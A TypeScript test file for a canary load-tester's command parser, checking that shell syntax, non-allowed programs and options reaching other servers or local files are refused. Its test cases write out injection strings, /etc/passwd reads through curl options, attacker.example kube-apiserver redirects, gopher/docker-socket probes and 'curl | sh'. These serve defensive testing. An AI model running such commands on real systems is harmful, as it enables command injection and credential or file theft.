import { describe, expect, it } from 'vitest';
import { parseCommandLine, splitFields } from './command-line.js';
import {
  ALLOWABLE_COMMANDS,
  DEFAULT_ALLOWED_COMMANDS,
  parseAllowEntry,
  planCommand,
  type CommandPlan,
  type CommandPolicy,
} from './commands.js';
import { CommandNotAllowedError, InvalidTaskError, ShellSyntaxError } from './errors.js';

const safe: CommandPolicy = { allowAnyCommand: false, allowed: [...DEFAULT_ALLOWED_COMMANDS] };
const withKubectl: CommandPolicy = { allowAnyCommand: false, allowed: [...ALLOWABLE_COMMANDS] };

describe('parseCommandLine', () => {
  it('splits words like a shell: quotes, escapes, empty arguments, line continuations', () => {
    expect(parseCommandLine('hey -z 1m -q 10 -c 2 http://podinfo-canary.test:9898/')).toEqual([
      'hey',
      '-z',
      '1m',
      '-q',
      '10',
      '-c',
      '2',
      'http://podinfo-canary.test:9898/',
    ]);
    expect(parseCommandLine(`curl -H 'X-Canary: always' -d "{\\"a\\": 1}" ''`)).toEqual([
      'curl',
      '-H',
      'X-Canary: always',
      '-d',
      '{"a": 1}',
      '',
    ]);
    expect(parseCommandLine('a\\ b "c\\d" \'e\\f\' g\\\nh')).toEqual(['a b', 'c\\d', 'e\\f', 'gh']);
  });

  it('keeps shell characters that are quoted or escaped, and URL characters a shell leaves alone', () => {
    expect(parseCommandLine(`hey -H 'a;b|c&&d>$(e)' "x|y;z" \\; 'http://h/p?q=1&r=2'`)).toEqual([
      'hey',
      '-H',
      'a;b|c&&d>$(e)',
      'x|y;z',
      ';',
      'http://h/p?q=1&r=2',
    ]);
    expect(parseCommandLine('curl http://h/a?b=1 -d price$ 100% *')).toEqual([
      'curl',
      'http://h/a?b=1',
      '-d',
      'price$',
      '100%',
      '*',
    ]);
  });

  it('refuses an unquoted & in a URL, as a shell would have cut the command there', () => {
    expect(() => parseCommandLine('hey http://h/p?q=1&r=2')).toThrow("'&' (background job)");
  });

  it.each([
    ['hey http://h/; touch /tmp/x', "';' (command separator)"],
    ['hey http://h/ && touch /tmp/x', "'&&' (and-list)"],
    ['hey http://h/ || touch /tmp/x', "'||' (or-list)"],
    ['hey http://h/ | touch /tmp/x', "'|' (pipe)"],
    ['hey http://h/ &', "'&' (background job)"],
    ['hey http://h/$(touch /tmp/x)', "'$(…)' (command substitution)"],
    ['hey "http://h/$(touch /tmp/x)"', "'$(…)' (command substitution)"],
    ['hey http://h/`touch /tmp/x`', 'backticks'],
    ['hey "http://h/`id`"', 'backticks'],
    ['hey http://h/ > /tmp/x', "'>' (output redirection)"],
    ['hey http://h/ < /etc/passwd', "'<' (input redirection)"],
    ['hey http://h/\ntouch /tmp/x', 'a newline'],
    ['hey http://$HOST/', "'$HOST' (variable expansion)"],
    ['hey "http://${HOST}/"', "'${…}' (variable expansion)"],
    ['hey http://h/$1', "'$1' (special parameter)"],
    ["hey $'\\x41'", 'shell quoting'],
    ['(hey http://h/)', "'(' (subshell)"],
    ['hey http://h/ # comment', "'#' (comment)"],
    ["hey 'http://h/", 'an unterminated quote'],
    ['hey http://h/\\', 'a trailing backslash'],
    ['hey http://h/\0', 'a NUL byte'],
  ])('refuses %j naming %s', (text, construct) => {
    expect(() => parseCommandLine(text)).toThrow(ShellSyntaxError);
    expect(() => parseCommandLine(text)).toThrow(construct);
  });

  it('says where the construct is and what to do instead', () => {
    expect(() => parseCommandLine('hey x; id')).toThrow(
      "shell syntax is not allowed: ';' (command separator) at character 6; commands run without a shell",
    );
  });
});

describe('splitFields (helm and kubectl tasks, as Flagger)', () => {
  it('splits on whitespace only and keeps quotes as characters', () => {
    expect(splitFields("  test podinfo\t-n test --set a='b c' ")).toEqual([
      'test',
      'podinfo',
      '-n',
      'test',
      '--set',
      "a='b",
      "c'",
    ]);
  });
});

describe('the allow-list', () => {
  it('holds the program table without kubectl by default', () => {
    expect(DEFAULT_ALLOWED_COMMANDS).toEqual([
      'hey',
      'curl',
      'wrk',
      'ghz',
      'grpc_health_probe',
      'helm test',
      'helmv3 test',
    ]);
    expect(ALLOWABLE_COMMANDS).toContain('kubectl rollout status');
  });

  it('accepts only entries of the program table in --allow-command', () => {
    expect(parseAllowEntry('  kubectl   rollout status ')).toBe('kubectl rollout status');
    for (const entry of ['jq', 'helm upgrade', 'kubectl get', 'bash', '/usr/bin/hey', 'sh']) {
      expect(() => parseAllowEntry(entry)).toThrow('anything else needs --allow-any-command');
    }
    expect(() => parseAllowEntry(' ')).toThrow('--allow-command needs a program');
  });

  it('refuses programs outside the allow-list with the list of what is allowed', () => {
    expect(() => planCommand('cmd', 'rm -rf /', safe)).toThrow(CommandNotAllowedError);
    expect(() => planCommand('cmd', 'python3 -c "print(1)"', safe)).toThrow(
      '"python3" is not allowed; allowed: hey, curl, wrk, ghz, grpc_health_probe, helm test, helmv3 test (the program table is in docs/loadtester.md)',
    );
    expect(() => planCommand('cmd', '/usr/bin/hey http://h/', safe)).toThrow('"/usr/bin/hey" is not allowed');
    expect(() => planCommand('helm', 'uninstall podinfo', safe)).toThrow('"helm uninstall" is not allowed');
    expect(() => planCommand('cmd', 'hey http://h/', { allowAnyCommand: false, allowed: ['curl'] })).toThrow(
      '"hey" is not allowed; allowed: curl',
    );
  });
});

function processArgv(plan: CommandPlan): readonly string[] {
  if (plan.kind !== 'process') throw new Error(`expected a process plan, got ${plan.kind}`);
  return plan.argv;
}

describe('planCommand: the program table', () => {
  it('writes hey out again in one spelling, without redirects, and names its target', () => {
    const plan = planCommand(
      'cmd',
      "hey -z 1m -q 10 -c 2 -H 'X-Canary: insider' http://podinfo-canary.test:9898/",
      safe,
    );
    expect(processArgv(plan)).toEqual([
      'hey',
      '-z=1m',
      '-q=10',
      '-c=2',
      '-H=X-Canary: insider',
      '-disable-redirects',
      'http://podinfo-canary.test:9898/',
    ]);
    expect(plan.kind === 'process' && plan.targets).toEqual([
      { host: 'podinfo-canary.test', port: 9898, what: 'hey URL' },
    ]);
  });

  it('runs helm test and, once allowed, kubectl rollout status in their grammar only', () => {
    expect(processArgv(planCommand('helmv3', 'test podinfo -n test --timeout 3m', safe))).toEqual([
      'helmv3',
      'test',
      '--namespace=test',
      '--timeout=3m',
      'podinfo',
    ]);
    expect(() => planCommand('kubectl', 'rollout status deploy/podinfo -n test', safe)).toThrow(
      '"kubectl rollout status" is not allowed',
    );
    expect(
      processArgv(planCommand('kubectl', 'rollout status --watch=false ds podinfo', withKubectl)),
    ).toEqual(['kubectl', 'rollout', 'status', '--watch=false', 'ds', 'podinfo']);
    expect(processArgv(planCommand('kubectl', 'rollout status deploy/podinfo -n test', withKubectl))).toEqual(
      ['kubectl', 'rollout', 'status', '--namespace=test', 'deploy/podinfo'],
    );
  });

  it.each([
    [
      'kubectl',
      'rollout status deploy/podinfo --server=https://attacker.example --insecure-skip-tls-verify',
      '--server',
    ],
    ['kubectl', 'rollout status deploy/podinfo --kubeconfig=/tmp/k', '--kubeconfig'],
    ['kubectl', 'rollout status deploy/podinfo -s https://attacker.example', '-s'],
    ['kubectl', 'rollout status deploy/podinfo --token=abc', '--token'],
    ['kubectl', 'rollout status -f /etc/passwd', '-f'],
    ['helm', 'test podinfo --kube-apiserver https://attacker.example', '--kube-apiserver'],
    ['helm', 'test podinfo --kubeconfig /etc/passwd', '--kubeconfig'],
  ] as const)('refuses %s %j, whose option %s reaches another server or a file', (type, cmd, option) => {
    expect(() => planCommand(type, cmd, withKubectl)).toThrow(CommandNotAllowedError);
    expect(() => planCommand(type, cmd, withKubectl)).toThrow(`option ${option} is not allowed`);
  });

  it.each([
    ['hey -D /etc/passwd -m POST http://h/', 'hey option -D is not allowed: it reads a local file'],
    ['hey -x http://proxy:1 http://h/', 'hey option -x is not allowed'],
    ['hey http://h/ -D /etc/passwd', 'hey needs exactly one URL'],
    ['hey file:///etc/passwd', 'the file scheme is not allowed'],
    ['hey http://user:pass@h/', 'credentials in a URL are not accepted'],
    ['wrk -s /tmp/script.lua http://h/', 'wrk option -s is not allowed: it runs a Lua script'],
    ['wrk --script=/tmp/script.lua http://h/', 'wrk option --script is not allowed'],
    ['ghz --proto /etc/passwd --call a.B/C h:1', 'ghz option --proto is not allowed: it reads a local file'],
    ['ghz -o /tmp/report.html --call a.B/C h:1', 'ghz option -o is not allowed: it writes a local file'],
    [
      'grpc_health_probe -addr=h:1 -tls-ca-cert=/etc/passwd',
      'grpc_health_probe option -tls-ca-cert is not allowed',
    ],
    ['hey -n many http://h/', 'hey option -n must be a whole number (got "many")'],
    ['hey -H "Authorization Bearer s3cr3t" http://h/', 'hey option -H must be a one-line header'],
  ])('refuses %j', (cmd, reason) => {
    expect(() => planCommand('cmd', cmd, safe)).toThrow(reason);
  });

  it('never shows a credential in a refusal', () => {
    expect(() => planCommand('cmd', 'hey -a user:s3cr3t -a again:x http://h/', safe)).toThrow(
      'hey option -a is given twice',
    );
    let message = '';
    try {
      planCommand('cmd', 'hey -H "Authorization Bearer s3cr3t" http://h/', safe);
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).not.toContain('s3cr3t');
  });
});

describe('planCommand: curl becomes an acceptance test run by our client', () => {
  it('reads the Flagger docs forms into a request', () => {
    const plan = planCommand(
      'bash',
      "curl -sd 'test' http://podinfo-canary.test:9898/token | grep token",
      safe,
    );
    expect(plan.kind).toBe('http');
    if (plan.kind !== 'http') return;
    expect(plan.spec).toMatchObject({ method: 'POST', body: 'test', expectBody: 'token', insecure: false });
    expect(plan.spec.url.href).toBe('http://podinfo-canary.test:9898/token');
    expect(plan.spec.headers['Content-Type']).toBe('application/x-www-form-urlencoded');

    const get = planCommand('cmd', 'curl -sSf -H "Host: app.example.com" http://envoy.projectcontour/', safe);
    expect(get.kind === 'http' && get.spec).toMatchObject({ method: 'GET', hostHeader: 'app.example.com' });
    expect(get.kind === 'http' && get.spec.expectStatus?.(503)).toBe(false);
  });

  it('shows credentials as [redacted] in the command it logs', () => {
    const plan = planCommand(
      'cmd',
      'curl -u admin:hunter2 -H "X-Api-Key: k-123" -H "Cookie: s=abc" -b "sid=xyz" http://h/',
      safe,
    );
    expect(plan.display).not.toMatch(/hunter2|k-123|s=abc|sid=xyz/);
    expect(plan.display).toContain('[redacted]');
    expect(plan.kind === 'http' && plan.spec.headers['Authorization']).toBe(
      `Basic ${Buffer.from('admin:hunter2').toString('base64')}`,
    );
    const hey = planCommand('cmd', 'hey -a admin:hunter2 -H "Authorization: Bearer t0k3n" http://h/', safe);
    expect(hey.display).not.toMatch(/hunter2|t0k3n/);
  });

  it.each([
    ['curl {file}:///etc/passwd', InvalidTaskError],
    ['curl [f-f]ile:///etc/passwd', InvalidTaskError],
    ['curl file:/etc/passwd', CommandNotAllowedError],
    ['curl file:///etc/passwd', CommandNotAllowedError],
    ['curl --proto-default file /etc/passwd', CommandNotAllowedError],
    ['curl -L --proto-redir =all http://h/', CommandNotAllowedError],
    ['curl --url-query x@/etc/passwd http://h/', CommandNotAllowedError],
    ['curl -F f=@/etc/passwd http://h/', CommandNotAllowedError],
    ["curl -F 'f=</etc/passwd' http://h/", CommandNotAllowedError],
    ['curl --etag-compare /etc/passwd http://h/', CommandNotAllowedError],
    ['curl --data-urlencode x@/etc/passwd http://h/', CommandNotAllowedError],
    ['curl -d @/etc/passwd http://h/', InvalidTaskError],
    ['curl --json @/etc/passwd http://h/', InvalidTaskError],
    ['curl -b /etc/passwd http://h/', InvalidTaskError],
    ['curl -H @/etc/passwd http://h/', InvalidTaskError],
    ['curl -w @/etc/passwd http://h/', InvalidTaskError],
    ['curl -w "%output{/tmp/x}" http://h/', InvalidTaskError],
    ['curl -o /tmp/x http://h/', InvalidTaskError],
    ['curl -K /etc/passwd http://h/', CommandNotAllowedError],
    ['curl {gopher}://h:25/', InvalidTaskError],
    ['curl gopher://h:25/_HELO', CommandNotAllowedError],
    ['curl dict://h:11211/stats', CommandNotAllowedError],
    ['curl --unix-socket /run/docker.sock http://h/', CommandNotAllowedError],
    ['curl -x http://proxy:3128 http://h/', CommandNotAllowedError],
    ['curl --connect-to h:80:127.0.0.1:22 http://h/', CommandNotAllowedError],
    ['curl http://h/ http://other/', InvalidTaskError],
    ['curl http://h/ | grep "a.*b"', ShellSyntaxError],
    ['curl http://h/ | sh', ShellSyntaxError],
  ])('refuses %j', (cmd, kind) => {
    expect(() => planCommand('cmd', cmd, safe)).toThrow(kind);
  });
});

describe('planCommand: --allow-any-command', () => {
  const unsafe: CommandPolicy = { ...safe, allowAnyCommand: true };

  it('runs cmd with sh -c, bash with bash -c and any helm or kubectl subcommand, and redacts the log line', () => {
    expect(processArgv(planCommand('cmd', 'hey http://h/ | tee x', unsafe))).toEqual([
      'sh',
      '-c',
      'hey http://h/ | tee x',
    ]);
    expect(processArgv(planCommand('bash', 'echo hi', unsafe))).toEqual(['bash', '-c', 'echo hi']);
    expect(processArgv(planCommand('kubectl', 'delete ns test', unsafe))).toEqual([
      'kubectl',
      'delete',
      'ns',
      'test',
    ]);
    expect(planCommand('cmd', 'curl -u admin:hunter2 https://a:b@h/?token=t1', unsafe).display).not.toMatch(
      /hunter2|a:b@|t1/,
    );
  });

  it('refuses bash tasks without it, except curl | grep and single programs of the table', () => {
    expect(() => planCommand('bash', 'echo hi', safe)).toThrow('bash tasks run a shell');
    expect(() => planCommand('bash', 'hey http://h/ | tee x', safe)).toThrow(ShellSyntaxError);
    expect(
      processArgv(
        planCommand('bash', 'grpc_health_probe -connect-timeout=1s -addr=podinfo-canary:9999', safe),
      ),
    ).toEqual(['grpc_health_probe', '-connect-timeout=1s', '-addr=podinfo-canary:9999']);
  });

  it('refuses empty commands and NUL bytes', () => {
    expect(() => planCommand('cmd', '  ', safe)).toThrow('metadata.cmd is required for type cmd');
    expect(() => planCommand('kubectl', 'get pods\0', unsafe)).toThrow('NUL byte');
  });
});
